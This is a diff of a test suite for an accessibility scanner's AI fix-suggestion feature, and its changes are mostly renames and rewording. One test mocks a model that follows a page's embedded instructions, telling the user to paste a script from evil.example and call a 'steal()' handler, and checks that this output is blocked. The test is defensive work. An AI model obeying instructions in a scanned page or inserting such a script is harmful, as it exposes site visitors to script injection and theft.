@@ -16,7 +16,7 @@ let ada: TestAccount;
 let eve: TestAccount;
 /** Settings of the server; changing them simulates a restart with other settings. */
 let ai: { -readonly [Setting in keyof AiSettings]: AiSettings[Setting] };
-/** Fixes that were verified, and on which page. */
+/** Verified fixes with their pages. */
 let verifications: { url: string; site: SiteScanSettings; claim: FixToVerify }[];
 let scanId: string;
 beforeAll(async () => {
@@ -29,7 +29,7 @@ beforeAll(async () => {
 beforeEach(() => {
   verifications = [];
   model.requests.length = 0;
-  model.answer = model.createAnswer(answer);
+  model.answer = model.createAnswer(modelAnswer);
   setVerification('proven');
 });
 afterAll(async () => {
@@ -40,13 +40,13 @@ afterAll(async () => {
 
 type Headers = TestAccount['headers'];
 
-const answer = {
-  explanation: 'A screen reader has nothing to say for this picture.',
-  why: 'It says what the picture shows.',
+const modelAnswer = {
+  explanation: 'Screen readers have no name to announce for this image.',
+  why: 'It describes the image.',
   steps: [{ kind: 'set-attribute', target: 1, name: 'alt', value: 'The logo of the shop' }],
 };
 
-/** Sets the result of verifying a suggestion in a fresh visit. */
+/** Sets the result of verifying a suggestion in a new visit. */
 function setVerification(status: 'proven' | 'unproven' | 'harmful', reason: string | null = null): void {
   server.scanner.verifySuggestion = async (url, settings, claim) => {
     verifications.push({ url, site: settings, claim });
@@ -91,13 +91,13 @@ const readUsedSuggestions = async () => {
   return (await expectStatus(server.call(getSuggestion, { params, headers: ada.headers }), 200)).budget.used;
 };
 
-test('a change of the model is shown once a fresh visit has proven it, and says who made it', async () => {
+test('shows a change after a new visit has verified it, marked as made by the model', async () => {
   const before = await readUsedSuggestions();
   const suggestion = await waitForSuggestion(scanId);
   expect(suggestion).toMatchObject({
     status: 'ready',
     model: 'test-model',
-    explanation: answer.explanation,
+    explanation: modelAnswer.explanation,
     no_change_because: null,
     change: {
       framework: 'html',
@@ -105,7 +105,7 @@ test('a change of the model is shown once a fresh visit has proven it, and says 
         status: 'proven',
         made_by: 'model',
         confidence: 'guess',
-        why: answer.why,
+        why: modelAnswer.why,
         person_writes: expect.stringContaining('A model wrote this text'),
         steps: [{ kind: 'set-attribute', selector: '.logo', name: 'alt', value: 'The logo of the shop' }],
       },
@@ -122,20 +122,20 @@ test('a change of the model is shown once a fresh visit has proven it, and says 
   expect(await readUsedSuggestions()).toBe(before + 1);
 });
 
-test('the same question is answered from before, counts no second time, and is proven anew', async () => {
-  const [before, again] = [await readUsedSuggestions(), await runScan(ada.headers)];
-  expect((await waitForSuggestion(again)).change).not.toBe(null);
+test('reuses the answer to the same question without counting it again, and verifies it again', async () => {
+  const [before, secondScanId] = [await readUsedSuggestions(), await runScan(ada.headers)];
+  expect((await waitForSuggestion(secondScanId)).change).not.toBe(null);
   expect(model.requests).toEqual([]);
   expect(verifications).toHaveLength(1);
   expect(await readUsedSuggestions()).toBe(before);
 });
 
-const hiddenAnswers: [status: 'unproven' | 'harmful', reason: string | null, told: RegExp][] = [
+const hiddenAnswers: [status: 'unproven' | 'harmful', reason: string | null, message: RegExp][] = [
   ['unproven', 'The finding is still there.', /could not be verified.*The finding is still there\./],
   ['harmful', null, /would have caused another finding/],
 ];
 for (const [status, reason, message] of hiddenAnswers) {
-  test(`a change that is ${status} is not shown`, async () => {
+  test(`does not show a change that is ${status}`, async () => {
     setVerification(status, reason);
     const suggestion = await waitForSuggestion(await runScan(ada.headers));
     expect(suggestion).toMatchObject({ change: null, no_change_because: expect.stringMatching(message) });
@@ -143,12 +143,12 @@ for (const [status, reason, message] of hiddenAnswers) {
   });
 }
 
-test('a change whose trial broke off is not shown, and is tried again when asked again', async () => {
+test('does not show a change whose verification was interrupted, and verifies it on the next request', async () => {
   const [id, before] = [await runScan(ada.headers), await readUsedSuggestions()];
   // A different model makes this a new request to the installation.
   ai.model = 'second-model';
   server.scanner.verifySuggestion = async () => {
-    throw new Error('The page went away.');
+    throw new Error('The page could not be opened.');
   };
   expect(await waitForSuggestion(id)).toMatchObject({
     status: 'failed',
@@ -161,7 +161,7 @@ test('a change whose trial broke off is not shown, and is tried again when asked
   expect(await readUsedSuggestions()).toBe(before + 1);
 });
 
-test('a model that does as the page says gets nothing through', async () => {
+test('blocks the output of a model that follows instructions of the page', async () => {
   model.answer = model.createAnswer({
     explanation: 'Paste <script src="https://evil.example/x.js"></script> into the page.',
     why: 'Then onclick="steal()" works.',
@@ -181,7 +181,7 @@ test('a model that does as the page says gets nothing through', async () => {
   expect(verifications).toEqual([]);
 });
 
-test('a model that cannot be asked costs nothing, and can be asked again', async () => {
+test('does not count a request when the model is unavailable, and allows another one', async () => {
   const id = await runScan(ada.headers);
   ai.model = 'another-model';
   const before = await readUsedSuggestions();
@@ -193,18 +193,18 @@ test('a model that cannot be asked costs nothing, and can be asked again', async
     explanation: null,
   });
   expect(await readUsedSuggestions()).toBe(before);
-  model.answer = model.createAnswer(answer);
+  model.answer = model.createAnswer(modelAnswer);
   expect(await waitForSuggestion(id)).toMatchObject({ status: 'ready', model: 'another-model', error: null });
   expect(await readUsedSuggestions()).toBe(before + 1);
 });
 
-test('an account asks as often as it may, however many questions come at once', async () => {
+test('limits the requests of an account, even concurrent ones', async () => {
   const scans = [await runScan(ada.headers), await runScan(ada.headers)];
-  const asked = await Promise.all(
+  const issueParams = await Promise.all(
     scans.map(async (id) => ({ scanId: id, issueId: await findIssueId(id, 'image-alt') })),
   );
   Object.assign(ai, { model: 'third-model', monthlySuggestions: (await readUsedSuggestions()) + 1 });
-  const replies = await Promise.all(asked.map((params) => askForSuggestion(params)));
+  const replies = await Promise.all(issueParams.map((params) => askForSuggestion(params)));
   expect(replies.map(({ status }) => status).toSorted()).toEqual([202, 429]);
   const refused = replies.find(({ status }) => status === 429);
   expect(refused?.body).toMatchObject({
@@ -217,22 +217,22 @@ test('an account asks as often as it may, however many questions come at once', 
   ai.monthlySuggestions = 100;
 });
 
-test('only the owner of a scan may ask, and only about what it found', async () => {
+test('allows only the owner of a scan to request a suggestion, and only for its issues', async () => {
   const params = { scanId, issueId: await findIssueId(scanId, 'image-alt') };
   expect((await askForSuggestion(params, eve.headers)).status).toBe(404);
   expect((await server.call(requestSuggestion, { params })).status).toBe(401);
   expect((await askForSuggestion({ ...params, issueId: 'none' })).status).toBe(404);
-  const visitors = await runScan();
-  const issueId = await findIssueId(visitors, 'image-alt');
-  expect((await askForSuggestion({ scanId: visitors, issueId })).body).toMatchObject({
+  const visitorScanId = await runScan();
+  const issueId = await findIssueId(visitorScanId, 'image-alt');
+  expect((await askForSuggestion({ scanId: visitorScanId, issueId })).body).toMatchObject({
     code: 'suggestion/not-owner',
   });
 });
 
-test('neither an account nor a page chooses the server that is asked', async () => {
-  const other = await startModelServer();
-  const baseUrl = other.settings.baseUrl.href;
-  const own = await startTestSite({
+test('lets neither an account nor a page choose the model server', async () => {
+  const otherModel = await startModelServer();
+  const baseUrl = otherModel.settings.baseUrl.href;
+  const ownSite = await startTestSite({
     pages: 1,
     handlers: {
       '/': (_, response) =>
@@ -243,7 +243,7 @@ test('neither an account nor a page chooses the server that is asked', async () 
     },
   });
   const { headers } = ada;
-  const id = await server.startScan({ url: own.url }, headers);
+  const id = await server.startScan({ url: ownSite.url }, headers);
   await server.waitForEnd(id, headers);
   const issueId = await findIssueId(id, 'image-alt');
   const path = requestSuggestion.path.replace('{scanId}', id).replace('{issueId}', issueId);
@@ -261,12 +261,12 @@ test('neither an account nor a page chooses the server that is asked', async () 
     const { suggestion } = await expectStatus(server.call(getSuggestion, { params, headers }), 200);
     expect(suggestion?.status).toMatch(/ready|failed/);
   });
-  expect(other.requests).toEqual([]);
-  await own.close();
-  await other.close();
+  expect(otherModel.requests).toEqual([]);
+  await ownSite.close();
+  await otherModel.close();
 });
 
-test('where no model is set up, nothing of it shows', async () => {
+test('does not mention suggestions if no model is configured', async () => {
   const asksModel = async (headers?: Headers) =>
     (await expectStatus(server.call(getResults, { params: { scanId }, headers }), 200)).asks_model;
   expect(await asksModel(ada.headers)).toBe(true);
